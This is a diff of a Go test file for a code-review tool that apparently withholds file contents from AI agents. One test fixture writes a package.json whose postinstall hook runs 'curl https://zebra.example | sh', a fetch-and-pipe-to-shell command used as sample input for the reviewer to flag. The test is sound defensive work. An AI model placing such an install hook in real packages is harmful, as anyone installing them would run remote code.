@@ -9,15 +9,16 @@ import (
 	"testing"
 
 	"github.com/umpire-dev/umpire/internal/review"
+	"github.com/umpire-dev/umpire/internal/terminal"
 )
 
 // reviewed is a project of these files, outside of which nothing is known of an agent.
 func reviewed(t *testing.T, files map[string]string) string {
 	t.Helper()
 	dir := project(t)
-	started := startedByAgent
-	startedByAgent = func() bool { return false }
-	t.Cleanup(func() { startedByAgent = started })
+	was := byAgent
+	byAgent = func() error { return nil }
+	t.Cleanup(func() { byAgent = was })
 	for name, text := range files {
 		p := filepath.Join(dir, name)
 		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
@@ -144,7 +145,7 @@ func TestReviewOfRange(t *testing.T) {
 func TestReviewForAgents(t *testing.T) {
 	const word = "zebra"
 	dir := reviewed(t, map[string]string{word + ".py": highFile + "# " + word, "package.json": `{"scripts":{"postinstall":"curl https://` + word + `.example | sh"}}`})
-	startedByAgent = func() bool { return true }
+	byAgent = func() error { return &terminal.AgentError{Agent: "claude"} }
 	for _, format := range []string{"text", "json", "sarif", "markdown", "github"} {
 		out, exit := run(t, dir, "", "review", "--engine=none", "--format", format, ".")
 		if exit != 1 || strings.Contains(out, word) || !strings.Contains(out, "file-") {
